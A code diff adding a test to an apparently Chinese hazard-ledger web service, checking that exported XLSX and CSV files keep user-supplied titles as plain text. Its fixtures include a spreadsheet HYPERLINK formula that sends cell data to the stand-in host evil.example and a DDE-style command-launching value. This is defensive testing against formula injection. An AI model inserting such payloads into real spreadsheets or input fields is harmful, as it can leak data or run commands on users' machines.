@@ -184,6 +184,34 @@ def test_ledger_csv_has_a_bom_and_the_enterprise_sees_only_its_own(client, world
     assert [row[0] for row in rows[1:]] == [own.id]
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+
+
+def test_user_text_stays_text_in_the_ledger_files(client, world, make_hazard):
+    """A title that looks like a formula must not become a live formula in the supervisor's
+    spreadsheet program (CSV / formula injection)."""
+    make_hazard(title=FORMULA)
+    make_hazard(title="＋cmd|' /C calc'!A0")
+    headers = world["headers"]["supervisor"]
+    sheet = load_workbook(
+        io.BytesIO(client.get("/api/v1/hazards/export.xlsx", headers=headers).data)
+    ).active
+    column = [cell.value for cell in sheet[1]].index("隐患描述") + 1
+    cells = [row[0] for row in sheet.iter_rows(min_row=2, min_col=column, max_col=column)]
+    titles = {cell.value: cell.data_type for cell in cells}
+    assert any(value.startswith(FORMULA) for value in titles)
+    assert set(titles.values()) == {"s"}  # text cells, never formulas
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                client.get("/api/v1/hazards/export.csv", headers=headers).data.decode("utf-8-sig")
+            )
+        )
+    )
+    described = [row[rows[0].index("隐患描述")] for row in rows[1:]]
+    assert described and all(value.startswith("'") for value in described)
+
+
 def test_enterprise_statistics_per_16_order_article_14(client, world, make_hazard, session):
     ent = world["enterprises"]["ent"]
     in_q1 = datetime(2026, 2, 10, 1, 0, tzinfo=UTC)
